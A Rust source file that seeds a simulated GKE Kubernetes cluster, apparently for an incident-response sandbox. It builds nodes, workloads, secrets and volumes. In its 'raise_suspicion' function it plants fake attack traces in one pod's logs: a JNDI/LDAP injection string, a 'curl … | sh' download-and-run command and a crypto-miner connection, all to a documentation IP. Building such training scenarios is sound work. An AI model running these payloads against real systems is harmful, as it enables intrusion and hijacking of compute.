//! The cluster as it is when the emulator starts, made from the [`World`].

use std::collections::BTreeMap;

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};

use super::cluster::State;
use super::controllers::{self, pods, workloads};
use super::defaults;
use super::object::{controller_reference, items, name, put, rfc3339, text, uid};
use super::resources::{
    BUDGETS, CLAIMS, CONFIG_MAPS, DAEMON_SETS, DEPLOYMENTS, LEASES, NAMESPACES, NODES, PODS, REPLICA_SETS, Resource, SECRETS,
    SERVICE_ACCOUNTS, SERVICES, STATEFUL_SETS, VOLUMES,
};
use super::store::safe_text;
use crate::sandbox::world::{Node, Workload, WorkloadKind, World};

/// How old everything is when the emulator starts.
const AGE: SignedDuration = SignedDuration::from_hours(72);

/// The release that control plane and nodes say they run.
pub const GIT_VERSION: &str = "v1.32.9-gke.1108000";

/// Seeds nodes, workloads and everything that belongs to them.
pub fn seed(world: &World, now: Timestamp) -> State {
    let mut state = State::default();
    let then = now.checked_sub(AGE).unwrap_or(now);
    let mut namespaces: Vec<&str> = vec!["default", "kube-node-lease", "kube-public", "kube-system"];
    namespaces.extend(world.workloads.iter().map(|w| w.namespace.as_str()));
    namespaces.sort_unstable();
    namespaces.dedup();
    for ns in namespaces {
        add_namespace(&mut state, ns, then);
    }
    for node in &world.nodes {
        state.store.create(&NODES, node_object(world, node, then), then);
        state.store.create(&LEASES, lease(node, now), then);
    }
    for workload in &world.workloads {
        add_workload(&mut state, world, workload, then);
    }
    for budget in &world.budgets {
        let spec = json!({ "minAvailable": budget.min_available, "selector": { "matchLabels": budget.match_labels } });
        add(&mut state, &BUDGETS, json!({ "metadata": { "name": budget.name, "namespace": budget.namespace }, "spec": spec }), then);
    }
    for service in &world.services {
        let spec = json!({ "selector": service.selector, "ports": [{ "name": "http", "port": 80, "targetPort": 8080 }] });
        add(&mut state, &SERVICES, json!({ "metadata": { "name": service.name, "namespace": service.namespace }, "spec": spec }), then);
    }
    controllers::react(&mut state, then);
    let (ns, suspect) = World::SUSPECT;
    if let Some(pod) = state.store.get(&PODS, ns, suspect).cloned() {
        raise_suspicion(&mut state, &pod, now);
    }
    state
}

/// Adds a workload with its pods on their nodes, running.
pub fn add_workload(state: &mut State, world: &World, workload: &Workload, now: Timestamp) {
    if state.store.get(&NAMESPACES, "", &workload.namespace).is_none() {
        add_namespace(state, &workload.namespace, now);
    }
    if state.store.get(&SERVICE_ACCOUNTS, &workload.namespace, &workload.service_account).is_none() {
        add(state, &SERVICE_ACCOUNTS, json!({ "metadata": { "name": workload.service_account, "namespace": workload.namespace } }), now);
    }
    match workload.kind {
        WorkloadKind::Deployment => add_deployment(state, world, workload, now),
        WorkloadKind::StatefulSet => add_stateful_set(state, world, workload, now),
        WorkloadKind::DaemonSet => {
            let set = add(state, &DAEMON_SETS, owner(world, workload), now);
            for (pod, node) in &workload.pods {
                state.store.create(&PODS, workloads::daemon_pod(&set, pod, node, now), now);
            }
        }
        WorkloadKind::Bare | WorkloadKind::Mirror => {
            for (pod, node) in &workload.pods {
                add_single_pod(state, world, workload, pod, node, now);
            }
        }
    }
    controllers::react(state, now);
    for (pod, _) in &workload.pods {
        if let Some(pod) = state.store.get(&PODS, &workload.namespace, pod).cloned() {
            add_logs(state, &pod, now);
        }
    }
}

fn add(state: &mut State, resource: &Resource, mut object: Value, now: Timestamp) -> Value {
    defaults::apply(resource, &mut object);
    state.store.create(resource, object, now)
}

/// Adds a namespace with what its controllers put there.
pub fn add_namespace(state: &mut State, ns: &str, now: Timestamp) {
    state.store.create(&NAMESPACES, json!({ "metadata": { "name": ns }, "spec": { "finalizers": ["kubernetes"] } }), now);
    state.store.create(&SERVICE_ACCOUNTS, json!({ "metadata": { "name": "default", "namespace": ns } }), now);
    let bundle = json!({ "metadata": { "name": "kube-root-ca.crt", "namespace": ns }, "data": { "ca.crt": "" } });
    state.store.create(&CONFIG_MAPS, bundle, now);
}

// === nodes ===

fn node_object(world: &World, node: &Node, now: Timestamp) -> Value {
    let region = world.zone.rsplit_once('-').map_or(world.zone.as_str(), |(region, _)| region);
    let machine = Sha256::digest(&node.name);
    let system_uuid = safe_text(&machine, 16);
    json!({
        "metadata": { "name": node.name, "labels": node_labels(world, node, region), "annotations": node_annotations(world, node) },
        "spec": {
            "podCIDR": pod_range(world, node), "podCIDRs": [pod_range(world, node)],
            "providerID": format!("gce://{}/{}/{}", world.project, world.zone, node.name),
        },
        "status": {
            "addresses": addresses(world, node),
            "allocatable": { "cpu": "3920m", "ephemeral-storage": "47060071478", "hugepages-1Gi": "0", "hugepages-2Mi": "0", "memory": "13590444Ki", "pods": "110" },
            "capacity": { "cpu": "4", "ephemeral-storage": "98831908Ki", "hugepages-1Gi": "0", "hugepages-2Mi": "0", "memory": "16380844Ki", "pods": "110" },
            "conditions": node_conditions(now),
            "daemonEndpoints": { "kubeletEndpoint": { "Port": 10250 } },
            "nodeInfo": {
                "architecture": "amd64", "bootID": system_uuid, "containerRuntimeVersion": "containerd://1.7.28", "kernelVersion": "6.6.97+",
                "kubeProxyVersion": GIT_VERSION, "kubeletVersion": GIT_VERSION, "machineID": system_uuid, "operatingSystem": "linux",
                "osImage": "Container-Optimized OS from Google", "systemUUID": system_uuid,
            },
        },
    })
}

fn node_labels(world: &World, node: &Node, region: &str) -> BTreeMap<String, String> {
    let mut labels: BTreeMap<String, String> = [
        ("beta.kubernetes.io/arch", "amd64"),
        ("beta.kubernetes.io/instance-type", "e2-standard-4"),
        ("beta.kubernetes.io/os", "linux"),
        ("cloud.google.com/gke-boot-disk", "pd-balanced"),
        ("cloud.google.com/gke-container-runtime", "containerd"),
        ("cloud.google.com/gke-cpu-scaling-level", "4"),
        ("cloud.google.com/gke-logging-variant", "DEFAULT"),
        ("cloud.google.com/gke-max-pods-per-node", "110"),
        ("cloud.google.com/gke-memory-gb-scaling-level", "16"),
        ("cloud.google.com/gke-os-distribution", "cos"),
        ("cloud.google.com/gke-provisioning", "standard"),
        ("cloud.google.com/gke-stack-type", if node.external_ipv6.is_some() { "IPV4_IPV6" } else { "IPV4" }),
        ("cloud.google.com/machine-family", "e2"),
        ("cloud.google.com/private-node", if node.external_ip.is_some() { "false" } else { "true" }),
        ("failure-domain.beta.kubernetes.io/region", region),
        ("failure-domain.beta.kubernetes.io/zone", &world.zone),
        ("kubernetes.io/arch", "amd64"),
        ("kubernetes.io/hostname", &node.name),
        ("kubernetes.io/os", "linux"),
        ("node.kubernetes.io/instance-type", "e2-standard-4"),
        ("topology.gke.io/zone", &world.zone),
        ("topology.kubernetes.io/region", region),
        ("topology.kubernetes.io/zone", &world.zone),
    ]
    .into_iter()
    .map(|(key, value)| (key.to_owned(), value.to_owned()))
    .collect();
    labels.insert("cloud.google.com/gke-nodepool".into(), node.pool.clone());
    if node.autopilot {
        labels.insert("cloud.google.com/compute-class".into(), "autopilot".into());
    }
    if node.local_ssds > 0 {
        labels.insert("cloud.google.com/gke-ephemeral-storage-local-ssd".into(), "true".into());
    }
    labels
}

fn node_annotations(world: &World, node: &Node) -> Value {
    let driver = format!("projects/{}/zones/{}/instances/{}", world.project, world.zone, node.name);
    json!({
        "container.googleapis.com/instance_id": node.instance_id.to_string(),
        "csi.volume.kubernetes.io/nodeid": json!({ "pd.csi.storage.gke.io": driver }).to_string(),
        "node.alpha.kubernetes.io/ttl": "0",
        "volumes.kubernetes.io/controller-managed-attach-detach": "true",
    })
}

fn addresses(world: &World, node: &Node) -> Vec<Value> {
    let host = format!("{}.{}.c.{}.internal", node.name, world.zone, world.project);
    let mut all = vec![json!({ "type": "InternalIP", "address": node.internal_ip })];
    all.extend(node.external_ip.iter().map(|ip| json!({ "type": "ExternalIP", "address": ip.address })));
    all.extend(node.external_ipv6.iter().map(|ip| json!({ "type": "InternalIP", "address": ip })));
    all.extend(["InternalDNS", "Hostname"].map(|kind| json!({ "type": kind, "address": host })));
    all
}

fn pod_range(world: &World, node: &Node) -> String {
    let index = world.nodes.iter().position(|n| n.name == node.name).unwrap_or_default();
    format!("10.4.{index}.0/24")
}

fn node_conditions(now: Timestamp) -> Vec<Value> {
    let condition = |kind: &str, status: &str, reason: &str, message: &str| {
        json!({
            "type": kind, "status": status, "reason": reason, "message": message,
            "lastHeartbeatTime": rfc3339(now), "lastTransitionTime": rfc3339(now),
        })
    };
    vec![
        condition("MemoryPressure", "False", "KubeletHasSufficientMemory", "kubelet has sufficient memory available"),
        condition("DiskPressure", "False", "KubeletHasNoDiskPressure", "kubelet has no disk pressure"),
        condition("PIDPressure", "False", "KubeletHasSufficientPID", "kubelet has sufficient PID available"),
        condition("Ready", "True", "KubeletReady", "kubelet is posting ready status"),
    ]
}

fn lease(node: &Node, now: Timestamp) -> Value {
    let spec = json!({ "holderIdentity": node.name, "leaseDurationSeconds": 40, "renewTime": format!("{now:.6}") });
    json!({ "metadata": { "name": node.name, "namespace": "kube-node-lease" }, "spec": spec })
}

// === workloads ===

fn pod_spec(world: &World, workload: &Workload) -> Value {
    let mut spec = json!({
        "containers": [{
            "name": workload.name, "image": format!("us-docker.pkg.dev/{}/apps/{}:1.4.2", world.project, workload.name),
            "ports": [{ "containerPort": 8080, "protocol": "TCP" }],
        }],
        "serviceAccountName": workload.service_account,
    });
    let mut volumes = Vec::new();
    if workload.empty_dir {
        volumes.push(json!({ "name": "scratch", "emptyDir": {} }));
    }
    if workload.kind == WorkloadKind::Deployment {
        volumes.push(json!({ "name": "credentials", "secret": { "secretName": credentials(workload), "defaultMode": 420 } }));
    }
    if !volumes.is_empty() {
        put(&mut spec, &["volumes"], volumes);
    }
    if workload.host_network {
        put(&mut spec, &["hostNetwork"], true);
    }
    if matches!(workload.kind, WorkloadKind::DaemonSet | WorkloadKind::Mirror) {
        put(&mut spec, &["tolerations"], json!([{ "operator": "Exists" }]));
    }
    spec
}

fn credentials(workload: &Workload) -> String {
    format!("{}-credentials", workload.name)
}

fn owner(world: &World, workload: &Workload) -> Value {
    json!({
        "metadata": { "name": workload.name, "namespace": workload.namespace, "labels": workload.labels },
        "spec": {
            "selector": { "matchLabels": workload.labels },
            "template": { "metadata": { "labels": workload.labels }, "spec": pod_spec(world, workload) },
        },
    })
}

fn add_deployment(state: &mut State, world: &World, workload: &Workload, now: Timestamp) {
    let secret = json!({
        "metadata": { "name": credentials(workload), "namespace": workload.namespace }, "type": "Opaque", "data": { "password": "c2FuZGJveA==" },
    });
    state.store.create(&SECRETS, secret, now);
    let mut deployment = owner(world, workload);
    put(&mut deployment, &["spec", "replicas"], workload.pods.len());
    let deployment = add(state, &DEPLOYMENTS, deployment, now);
    // The pods' names say which ReplicaSet made them.
    let from_name = workload.pods.first().and_then(|(pod, _)| pod.rsplit_once('-')).map(|(set, _)| set.to_owned());
    let Some(set_name) = from_name else { return };
    let hash = set_name.rsplit_once('-').map_or("", |(_, hash)| hash).to_owned();
    let mut set = owner(world, workload);
    put(&mut set, &["metadata", "name"], set_name);
    put(&mut set, &["metadata", "ownerReferences"], json!([controller_reference(&deployment)]));
    put(&mut set, &["metadata", "annotations", "deployment.kubernetes.io/revision"], "1");
    put(&mut set, &["spec", "replicas"], workload.pods.len());
    for path in [&["metadata", "labels"][..], &["spec", "selector", "matchLabels"], &["spec", "template", "metadata", "labels"]] {
        put(&mut set, &[path, &["pod-template-hash"]].concat(), hash.clone());
    }
    let set = add(state, &REPLICA_SETS, set, now);
    for (pod, node) in &workload.pods {
        let mut pod = pods::from_template(&set, pod);
        controllers::scheduler::bind(&mut pod, node, now);
        state.store.create(&PODS, pod, now);
    }
}

fn add_stateful_set(state: &mut State, world: &World, workload: &Workload, now: Timestamp) {
    let disk_of = |pod: &str| format!("pvc-{pod}");
    let disks = || world.nodes.iter().flat_map(|node| &node.data_disks);
    let mut set = owner(world, workload);
    put(&mut set, &["spec", "replicas"], workload.pods.len());
    put(&mut set, &["spec", "serviceName"], workload.name.clone());
    if workload.pods.iter().any(|(pod, _)| disks().any(|disk| *disk == disk_of(pod))) {
        let spec = json!({ "accessModes": ["ReadWriteOnce"], "storageClassName": "standard-rwo", "resources": { "requests": { "storage": "10Gi" } } });
        put(&mut set, &["spec", "volumeClaimTemplates"], json!([{ "metadata": { "name": "data" }, "spec": spec }]));
    }
    let set = add(state, &STATEFUL_SETS, set, now);
    for (ordinal, (pod, node)) in workload.pods.iter().enumerate() {
        if let Some(disk) = disks().find(|disk| **disk == disk_of(pod)) {
            add_claim(state, world, &workload.namespace, &format!("data-{pod}"), disk, now);
        }
        let mut pod = workloads::stateful_pod(&set, i64::try_from(ordinal).unwrap_or_default());
        controllers::scheduler::bind(&mut pod, node, now);
        state.store.create(&PODS, pod, now);
    }
}

fn add_claim(state: &mut State, world: &World, ns: &str, claim: &str, disk: &str, now: Timestamp) {
    let common = json!({ "accessModes": ["ReadWriteOnce"], "storageClassName": "standard-rwo", "volumeMode": "Filesystem" });
    let mut object = json!({ "metadata": { "name": claim, "namespace": ns }, "spec": common });
    put(&mut object, &["spec", "volumeName"], disk);
    put(&mut object, &["spec", "resources", "requests", "storage"], "10Gi");
    put(&mut object, &["status"], json!({ "phase": "Bound", "accessModes": ["ReadWriteOnce"], "capacity": { "storage": "10Gi" } }));
    let object = state.store.create(&CLAIMS, object, now);
    let handle = format!("projects/{}/zones/{}/disks/{disk}", world.project, world.zone);
    let mut volume = json!({ "metadata": { "name": disk }, "spec": common, "status": { "phase": "Bound" } });
    put(&mut volume, &["spec", "capacity", "storage"], "10Gi");
    put(&mut volume, &["spec", "csi"], json!({ "driver": "pd.csi.storage.gke.io", "fsType": "ext4", "volumeHandle": handle }));
    put(&mut volume, &["spec", "persistentVolumeReclaimPolicy"], "Delete");
    let reference = json!({ "apiVersion": "v1", "kind": "PersistentVolumeClaim", "name": claim, "namespace": ns, "uid": uid(&object) });
    put(&mut volume, &["spec", "claimRef"], reference);
    state.store.create(&VOLUMES, volume, now);
}

fn add_single_pod(state: &mut State, world: &World, workload: &Workload, pod_name: &str, node: &str, now: Timestamp) {
    let mut pod = json!({
        "metadata": { "name": pod_name, "namespace": workload.namespace, "labels": workload.labels }, "spec": pod_spec(world, workload),
    });
    if workload.kind == WorkloadKind::Mirror {
        let hash = safe_text(&Sha256::digest(pod_name), 20);
        put(&mut pod, &["metadata", "annotations", "kubernetes.io/config.mirror"], hash.clone());
        put(&mut pod, &["metadata", "annotations", "kubernetes.io/config.source"], "file");
    }
    pods::admit(&mut pod);
    controllers::scheduler::bind(&mut pod, node, now);
    match workload.kind {
        // The kubelet shows it as soon as it may.
        WorkloadKind::Mirror => state.static_pods.push(pod),
        WorkloadKind::Bare | WorkloadKind::Deployment | WorkloadKind::DaemonSet | WorkloadKind::StatefulSet => {
            state.store.create(&PODS, pod, now);
        }
    }
}

// === what a responder will look at ===

fn add_logs(state: &mut State, pod: &Value, now: Timestamp) {
    for container in items(pod, &["spec", "containers"]) {
        let lines = format!("{} listening on :8080\n{} ready\n", text(container, &["name"]), name(pod));
        let lines = lines.lines().map(|line| format!("{} {line}\n", rfc3339(now))).collect();
        state.logs.insert((uid(pod).into(), text(container, &["name"]).into()), lines);
    }
}

fn raise_suspicion(state: &mut State, pod: &Value, now: Timestamp) {
    let at = |minutes: i64| now.checked_sub(SignedDuration::from_mins(minutes)).unwrap_or(now);
    let Some(container) = items(pod, &["spec", "containers"]).first().map(|container| text(container, &["name"]).to_owned()) else {
        return;
    };
    let lines = [
        (31, "POST /cart/import?template=${jndi:ldap://198.51.100.23/a} 200"),
        (30, "warning: child process started: /bin/sh -c curl -s http://198.51.100.23/x.sh | sh"),
        (29, "xmrig: connecting to stratum+tcp://198.51.100.23:3333"),
    ];
    let log = state.logs.entry((uid(pod).into(), container)).or_default();
    for (minutes, line) in lines {
        log.push_str(&format!("{} {line}\n", rfc3339(at(minutes))));
    }
    for (minutes, kind, reason, message) in [
        (30, "Warning", "Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 503"),
        (12, "Warning", "CPUThrottlingHigh", "container cart used 398% of its CPU request for 15 minutes"),
    ] {
        controllers::record_event(state, pod, "kubelet", kind, reason, message, at(minutes));
    }
}
